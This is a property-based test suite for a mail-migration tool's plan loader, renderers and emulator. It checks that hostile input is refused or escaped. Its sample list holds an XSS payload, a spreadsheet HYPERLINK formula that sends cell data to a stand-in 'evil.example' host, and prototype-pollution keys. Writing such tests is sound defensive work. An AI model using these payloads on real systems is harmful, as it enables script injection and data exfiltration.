/**
 * Hostile input, property-based (fast-check, exact version in package-lock.json): arbitrary Unicode
 * names, emails and batch names — and strings built from the characters that break renderers —
 * either round-trip or are refused with a clear error, and no rendered output lets a value out of
 * its cell, line or element. Over: plan loading (YAML and CSV), the provider's check, the three
 * renderers (the pull-request Markdown, the ledger's CSV, the HTML report) and the emulator's routes.
 *
 * Each property runs a fixed number of cases (fc.check's numRuns, asserted); the counts are
 * printed at the end of the suite. Seeded from FC_SEED when set (to replay a failure), else random.
 */
import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import fc from "fast-check";
import { stringify } from "yaml";
import { startEmulator } from "../emulator";
import { PlanError, loadPlan, parseCsv } from "../provider/plan/load";
import { implementations, offlineContext } from "./helpers/provider";
import { TEXT_LIMITS, lengthOf, normalizeEmail } from "../provider/text";
import { summarizePreview } from "../cli/plan-summary";
import { appendLedger, readLedgerChecked, Observation } from "../cli/ledger";
import { Report, renderHtml } from "../cli/report";
import type { Emu } from "./helpers/emu";

/** Cases per property (modest: the whole suite takes a few seconds). */
const RUNS = { pure: 300, io: 150, http: 100 } as const;
const seed = process.env.FC_SEED ? Number(process.env.FC_SEED) : undefined;
const counts: { property: string; cases: number }[] = [];

async function holds<Ts>(property: string, prop: fc.IRawProperty<Ts>, numRuns: number): Promise<void> {
    const details = await fc.check(prop, { numRuns, ...(seed === undefined ? {} : { seed }) });
    if (details.failed) {
        const cause = details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance);
        throw new Error(`${property}: ${fc.defaultReportMessage(details) ?? "failed"}\n${cause}`);
    }
    assert.strictEqual(details.numRuns, numRuns, `${property}: ran every case`);
    counts.push({ property, cases: details.numRuns });
}

// ---------------------------------------------------------------- arbitraries
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/u;
/** The characters that break renderers, spreadsheets, identity and prototypes, and some ordinary ones. */
const UNITS = [
    "=", "+", "-", "@", "\t", "\r", "\n", "|", "<", ">", "!", "[", "]", "(", ")", "`", "*", "_", "~", "#", "'", '"', ",", ";", "&",
    "\\", " ", "\u200b", "\u2028", "\u0085", "\u0000", "\u001b", "\u00a0", "\ufeff", "ë", "e\u0301", "Z", "a", "1", ".", "/", ":", "%", "?",
];
const REPROS = [
    "Wave 9\n<!--", "@org/team", "<img src=x onerror=alert(1)>", '=HYPERLINK("http://evil.example/?"&A1)', "__proto__", "constructor",
    "toString", "zo\u00eb", "zoe\u0308", "zo\u200be", "-1", "+cmd", "\tx", "'=x", "a|b", "<!-- x -->", "[x](http://e.example)", "![i](http://e.example/i.png)",
];
/** Strings that survive a UTF-8 file (no lone surrogates). */
const wellFormed = (s: string) => Buffer.from(s, "utf8").toString("utf8") === s;
const text = (maxLength = 24) => fc.oneof(
    fc.string({ unit: "binary", maxLength }).filter(wellFormed),
    fc.string({ unit: fc.constantFrom(...UNITS), maxLength }),
    fc.constantFrom(...REPROS),
    fc.string({ unit: "grapheme", maxLength }),
);
/** Mostly valid-looking emails (local@domain.tld) whose parts are arbitrary text. */
const email = fc.oneof(
    fc.tuple(text(12), text(12)).map(([l, d]) => `${l}@${d}.example`),
    fc.tuple(fc.stringMatching(/^[a-z0-9._-]{1,12}$/), fc.constantFrom("s.example", "T.Example", "zo\u00eb.example")).map(([l, d]) => `${l}@${d}`),
    text(30),
);

// ---------------------------------------------------------------- checks shared by properties
const KEYS = ["firstName", "lastName", "sourceEmail", "targetEmail", "name", "trigger", "BatchName"];
/** A refused plan: one PlanError, each problem on one line, as `file:line: ...` naming the value's key. */
function clearlyRefused(e: unknown, file: string): boolean {
    assert.ok(e instanceof PlanError, `not a PlanError: ${String(e)}`);
    for (const p of e.problems) {
        assert.ok(p.startsWith(`${path.relative(process.cwd(), file)}:`) && /^[^:]+:\d+: /.test(p), `names file:line: ${JSON.stringify(p)}`);
        assert.ok(!/[\r\n\u2028\u2029]/.test(p), `one line: ${JSON.stringify(p)}`);
        assert.ok(KEYS.some((k) => p.includes(k)) || /duplicate user|the CSV file is empty/.test(p), `names the value: ${JSON.stringify(p)}`);
    }
    return true;
}
/** Accepted free text: what was given, trimmed; no control character; within its limit. */
function acceptedText(got: string, given: string, max: number) {
    assert.strictEqual(got, given.trim());
    assert.ok(!CONTROL.test(got), `no control character in ${JSON.stringify(got)}`);
    assert.ok(lengthOf(got) <= max && got.length > 0);
}
function acceptedEmail(got: string, given: string) {
    assert.strictEqual(got, normalizeEmail(given));
    assert.ok(!CONTROL.test(got) && !/[\u200b-\u200f\ufeff\u00ad]/.test(got), `no invisible character in ${JSON.stringify(got)}`);
}

/** Characters with a meaning in Markdown/HTML, counted when not backslash-escaped. */
const SIGNIFICANT = new Set(["|", "`", "*", "_", "[", "]", "<", ">", "~", "!"]);
function structure(line: string): string {
    let n = "";
    for (let i = 0; i < line.length; i++) {
        if (line[i] === "\\") { i++; continue; }
        if (SIGNIFICANT.has(line[i])) n += line[i];
    }
    return `${line.slice(0, 2)}|${n}`;
}

describe("hostile input: property-based (fast-check)", function () {
    this.timeout(120_000);
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "cw-prop-"));
    after(() => {
        fs.rmSync(tmp, { recursive: true, force: true });
        console.log(`\n  property cases (fast-check ${fc.__version}): ` + counts.map((c) => `${c.property}: ${c.cases}`).join("; ") +
            ` — ${counts.reduce((a, c) => a + c.cases, 0)} in all`);
    });

    describe("plan loading", () => {
        it("YAML: arbitrary names, emails, batch names and triggers round-trip or are refused as file:line", async () => {
            let n = 0;
            await holds("plan YAML", fc.property(text(), text(), email, email, text(), text(), (first, last, src, tgt, batch, trigger) => {
                const file = path.join(tmp, `p${n++}.yaml`);
                fs.writeFileSync(file, stringify({
                    defaults: { sourceConnectorName: "Gmail", targetConnectorName: "Office 365" },
                    batches: [{ name: batch, runs: [{ action: "migrate", trigger }], users: [{ firstName: first, lastName: last, sourceEmail: src, targetEmail: tgt }] }],
                }));
                let plan;
                try {
                    plan = loadPlan(file);
                } catch (e) {
                    return clearlyRefused(e, file);
                }
                const [b] = plan.batches, [u] = plan.users;
                acceptedText(b.name, batch, TEXT_LIMITS.batchName);
                acceptedText(b.runs[0].trigger, trigger, TEXT_LIMITS.trigger);
                acceptedText(u.firstName, first, TEXT_LIMITS.name);
                acceptedText(u.lastName, last, TEXT_LIMITS.name);
                acceptedEmail(u.sourceEmail, src);
                acceptedEmail(u.targetEmail, tgt);
                assert.strictEqual(u.batch, b.name);
                return true;
            }), RUNS.io);
        });

        it("CSV: arbitrary cells (quoted, RFC 4180) round-trip or are refused as file:line", async () => {
            let n = 0;
            const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
            await holds("plan CSV", fc.property(text(), text(), email, email, text(), (first, last, src, tgt, batch) => {
                const file = path.join(tmp, `p${n++}.csv`);
                fs.writeFileSync(file, `FirstName,LastName,SourceEmail,TargetEmail,BatchName\n${[first, last, src, tgt, batch].map(q).join(",")}\n`);
                let plan;
                try {
                    plan = loadPlan(file, { defaults: { sourceConnectorName: "Gmail", targetConnectorName: "Office 365" } });
                } catch (e) {
                    return clearlyRefused(e, file);
                }
                const [u] = plan.users;
                acceptedText(u.firstName, first, TEXT_LIMITS.name);
                acceptedText(u.lastName, last, TEXT_LIMITS.name);
                acceptedEmail(u.sourceEmail, src);
                acceptedEmail(u.targetEmail, tgt);
                if (batch.trim()) acceptedText(u.batch!, batch, TEXT_LIMITS.batchName);
                return true;
            }), RUNS.io);
        });

        it("check: arbitrary batch names, names and emails are accepted as given or refused naming Resource.property", async () => {
            const ctx = offlineContext(); // no credentials: check asks the API nothing
            await holds("provider check", fc.asyncProperty(text(), text(), email, text(), async (batch, first, src, trigger) => {
                const b = await implementations.MailBatch.check(ctx, undefined, { name: batch });
                if (b.failures.length) assert.ok(b.failures.every((f) => f.property === "name" && f.reason.startsWith("MailBatch.name: ")), JSON.stringify(b.failures));
                else acceptedText(String(b.inputs.name), batch, TEXT_LIMITS.batchName);
                const r = await implementations.MigrationRun.check(ctx, undefined, { batchName: "W", action: "audit", trigger });
                if (r.failures.length) assert.ok(r.failures.every((f) => f.property === "trigger" && f.reason.startsWith("MigrationRun.trigger: ")), JSON.stringify(r.failures));
                else assert.ok(!CONTROL.test(String(r.inputs.trigger)) && lengthOf(String(r.inputs.trigger)) <= TEXT_LIMITS.trigger);
                const u = await implementations.MailUser.check(ctx, undefined, {
                    firstName: first, lastName: "L", sourceEmail: src, targetEmail: "t@t.example", sourceConnectorName: "Gmail", targetConnectorName: "Office 365",
                });
                for (const f of u.failures) assert.ok(["firstName", "sourceEmail"].includes(f.property) && f.reason.startsWith(`MailUser.${f.property}: `), JSON.stringify(f));
                if (!u.failures.length) {
                    acceptedText(String(u.inputs.firstName), first, TEXT_LIMITS.name);
                    acceptedEmail(String(u.inputs.sourceEmail), src);
                }
                return true;
            }), RUNS.pure);
        });
    });

    describe("renderers", () => {
        const dyn = (t: string, n: string) => `urn:pulumi:prod::cloudiway-migration::cloudiway:index:MigrationPlan$pulumi-nodejs:dynamic/cloudiway:${t}::${n}`;
        /**
         * A preview whose every user-controlled value is one of `v` (each made non-empty and, where the
         * summary compares two of them, distinct by a suffix: the same rows show whatever the values).
         */
        const previewOf = (raw: string[]) => {
            const v = raw.map((x) => `${x}x`);
            return {
                steps: [
                    { op: "create", urn: dyn("MigrationRun", `run:${v[0]}#1`), newState: { inputs: { batchName: v[1], action: "migrate", trigger: v[2] } } },
                    { op: "update", urn: dyn("MigrationRun", `run:${v[3]}#2`), oldState: { inputs: { trigger: `${v[4]}←` } }, newState: { inputs: { migrationTag: v[5], action: "audit", trigger: `${v[7]}${v[6]}` } } },
                    { op: "create", urn: dyn("BatchMembership", `membership:${v[8]}#1`), newState: { inputs: { batchName: v[1], migrationTag: v[9] } } },
                    { op: "update", urn: dyn("BatchMembership", `membership:${v[10]}#2`), oldState: { inputs: { batchName: `${v[11]}←` } }, newState: { inputs: { batchName: `${v[12]}→` } } },
                    { op: "update", urn: dyn("BatchGlobalSettings", `settings:${v[13]}`), oldState: { inputs: { batchName: v[13], fromDate: `${v[14]}←` } }, newState: { inputs: { batchName: v[13], fromDate: `${v[15]}↑` } } },
                    { op: "create", urn: dyn("MailUser", `user:${v[16]}#1`), newState: { inputs: { sourceEmail: v[16], targetEmail: v[17], licensed: true } } },
                    ...[0, 1].map((i) => ({
                        op: "delete", urn: dyn("MailUser", `user:${v[18 + i]}#${i + 2}`),
                        oldState: { id: v[20 + i], inputs: { sourceEmail: v[18 + i], targetEmail: v[22 + i], deletionPolicy: i ? "retain" : "delete" },
                            outputs: { sourceEmail: v[18 + i], targetEmail: v[22 + i], passes: 3, status: v[24 + i], licenseAssigned: true } },
                    })),
                ],
                config: { "cloudiway:deletionPolicy": "delete" },
                diagnostics: [{ severity: "error", message: v[26] }, { severity: "error", message: v[27] }],
            };
        };
        const WIDTH = 28;

        it("Markdown (plan-summary and its cost section): no value leaves its cell or list item, opens HTML, or mentions", async () => {
            const plain = summarizePreview(previewOf(Array.from({ length: WIDTH }, (_, i) => `v${i}`)));
            const shape = plain.split("\n").map(structure);
            await holds("Markdown", fc.property(fc.array(text(), { minLength: WIDTH, maxLength: WIDTH }), (v) => {
                const md = summarizePreview(previewOf(v));
                const lines = md.split("\n");
                assert.strictEqual(lines.length, shape.length, "as many lines as with plain values");
                lines.forEach((l, i) => assert.strictEqual(structure(l), shape[i], `line ${i + 1} keeps its structure: ${JSON.stringify(l)}`));
                assert.ok(!/[\r\u2028\u2029\u0085]/.test(md), "no other line break");
                assert.ok(!/(?<![A-Za-z0-9_])@(?!&#8203;)/.test(md), "no @ mention");
                for (const l of lines) assert.ok(!/^- (?:[#>+=*-]|\d+[.)]|\s)/.test(l), `a list item's text opens no block (heading, quote, list, code): ${JSON.stringify(l)}`);
                return true;
            }), RUNS.pure);
        });

        it("CSV (the ledger): arbitrary values read back as written, and no cell starts a formula", async () => {
            let n = 0;
            await holds("ledger CSV", fc.property(fc.array(fc.tuple(text(), email, text(), text()), { minLength: 1, maxLength: 3 }), (rows) => {
                const file = path.join(tmp, `l${n++}.csv`);
                const obs: Observation[] = rows.map(([batch, sourceEmail, status, tag], i) => ({
                    kind: i % 2 ? "archive" : "mail", migrationTag: `${i}:${tag}`, sourceEmail, batch, status, passes: i,
                    mailsTotal: 1, mailsSuccess: 1, mailsFailure: 0, calendarsTotal: 0, calendarsSuccess: 0, calendarsFailure: 0,
                    contactsTotal: 0, contactsSuccess: 0, contactsFailure: 0, licensed: i % 2 === 0, itemsRead: 1, itemsFailure: 0,
                }));
                appendLedger(file, obs, "2026-11-30T08:00:00.000Z");
                const read = readLedgerChecked(file);
                assert.deepStrictEqual(read.problems, []);
                assert.deepStrictEqual(read.rows, obs.map((o) => ({ time: "2026-11-30T08:00:00.000Z", ...o })));
                const cells = parseCsv(fs.readFileSync(file, "utf8"));
                assert.strictEqual(cells.length, obs.length + 1, "one record per row");
                for (const r of cells) for (const c of r.cells) assert.ok(!/^[=+\-@\t\r]/.test(c), `no formula: ${JSON.stringify(c)}`);
                return true;
            }), RUNS.io);
        });

        it("HTML (the report): no value opens, closes or leaves an element or attribute", async () => {
            const reportOf = (batches: string[], status: string): Report => ({
                generatedAt: "2026-11-30T10:00:00.000Z", kind: "mail", statuses: [status, "SUCCESS"],
                rows: batches.map((b) => ({ batch: b, users: 2, statuses: { [status]: 1, SUCCESS: 1 }, passes: 1, mails: { total: 1, success: 1, failure: 0 }, calendars: { total: 0, success: 0, failure: 0 }, contacts: { total: 0, success: 0, failure: 0 } })),
                users: [],
            });
            const ledgerOf = (batches: string[]) => batches.flatMap((b, i) => ["2026-11-30T08:00:00.000Z", "2026-11-30T09:00:00.000Z"].map((time) => ({
                time, kind: "mail" as const, migrationTag: `t${i}`, sourceEmail: `u${i}@s.example`, batch: b, status: "SUCCESS", passes: 1,
                mailsTotal: 1, mailsSuccess: 1, mailsFailure: 0, calendarsTotal: 0, calendarsSuccess: 0, calendarsFailure: 0, contactsTotal: 0, contactsSuccess: 0, contactsFailure: 0, licensed: true,
            })));
            const tags = (h: string) => [...h].filter((c) => c === "<" || c === ">" || c === '"').length;
            await holds("HTML", fc.property(fc.uniqueArray(text(), { minLength: 2, maxLength: 2, selector: (s) => s }), text(), text(), (batches, status, problem) => {
                if (batches.some((b) => b === "v0" || b === "v1")) return true;
                const html = renderHtml(reportOf(batches, status), ledgerOf(batches), [problem]);
                const plain = renderHtml(reportOf(["v0", "v1"], status === "SUCCESS" ? "SUCCESS" : "v2"), ledgerOf(["v0", "v1"]), ["v3"]);
                assert.strictEqual(tags(html), tags(plain), "the same tags and attributes as with plain values");
                assert.ok(!/background:function/.test(html), "a status is no prototype key");
                return true;
            }), RUNS.pure);
        });
    });

    describe("the emulator's routes", () => {
        let emu: Emu;
        const KEY = "prop-key", SECRET = "Prop-S3cret-18";
        before(async () => { emu = await startEmulator({ port: 0, consumerKey: KEY, consumerSecret: SECRET, quiet: true }); });
        after(async () => { await emu.close(); });
        const auth = { consumerKey: KEY, consumerSecret: SECRET };
        const post = async (call: string, body: unknown) => {
            const r = await fetch(`${emu.url}/mailusers/${call}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
            assert.strictEqual(r.status, 200, `${call}: HTTP ${r.status}`);
            return (await r.json()) as { hasError: boolean; response: unknown };
        };
        const get = async (call: string, query: Record<string, string> = {}) => {
            const r = await fetch(`${emu.url}/mailusers/${call}?${new URLSearchParams({ ...auth, ...query })}`);
            assert.strictEqual(r.status, 200, `${call}: HTTP ${r.status}`);
            return (await r.json()) as { hasError: boolean; response: unknown };
        };

        it("arbitrary batch names: created, listed, read and deleted as given (trimmed), or refused with a message; never a 5xx", async () => {
            await holds("emulator batches", fc.asyncProperty(text(), fc.boolean(), async (name, trash) => {
                const made = await post("createbatch", { auth, batchName: name });
                if (made.hasError) {
                    assert.ok(typeof made.response === "string" && made.response.length > 0);
                    assert.strictEqual(name.trim(), "", `only an empty name is refused: ${JSON.stringify(made.response)}`);
                    return true;
                }
                const n = name.trim();
                assert.deepStrictEqual((await get("batch")).response, [n]);
                assert.deepStrictEqual((await get("getusersinbatch", { batchName: name })).response, []);
                const set = await post("setmailglobalsettingsbybatch", { ShouldMigrateTrash: trash, FromDate: "01/05/2015", batch: { auth, batchName: name } });
                assert.strictEqual(set.hasError, false, JSON.stringify(set));
                const s = (await get("getmailglobalsettingsbybatch", { batchName: name })).response as Record<string, unknown>;
                assert.deepStrictEqual([s.shouldMigrateTrash, s.fromDate], [trash, "2015-01-05T00:00:00"]);
                assert.strictEqual(Object.prototype.hasOwnProperty.call(Object.prototype, "settings"), false);
                assert.strictEqual((await post("deletebatch", { auth, batchName: name })).hasError, false);
                assert.deepStrictEqual((await get("batch")).response, []);
                return true;
            }), RUNS.http);
        });

        it("arbitrary path segments and query strings: 200, 400 or 404, never a 5xx or an internal message", async () => {
            const segment = fc.oneof(text(12).map(encodeURIComponent), fc.stringMatching(/^[%A-Za-z0-9_.~-]{0,12}$/), fc.constantFrom("__proto__", "constructor", "toString", "%", "%E0%A4%A", ".."));
            await holds("emulator paths", fc.asyncProperty(segment, fc.constantFrom("status", "get", "getmailhistory", "license"), segment, async (seg, call, q) => {
                for (const url of [`${emu.url}/mailusers/${seg}/${call}?consumerKey=${KEY}&consumerSecret=${SECRET}&x=${q}`, `${emu.url}/${seg}/getall?consumerKey=${KEY}&consumerSecret=${SECRET}`, `${emu.baseUrl}/selfservice/${seg}`]) {
                    const r = await fetch(url);
                    const body = await r.text();
                    assert.ok([200, 400, 404].includes(r.status), `${url}: HTTP ${r.status} ${body}`);
                    assert.ok(!/Internal error|TypeError|at .*\.js/.test(body), `${url}: ${body}`);
                }
                return true;
            }), RUNS.http);
        });
    });
});
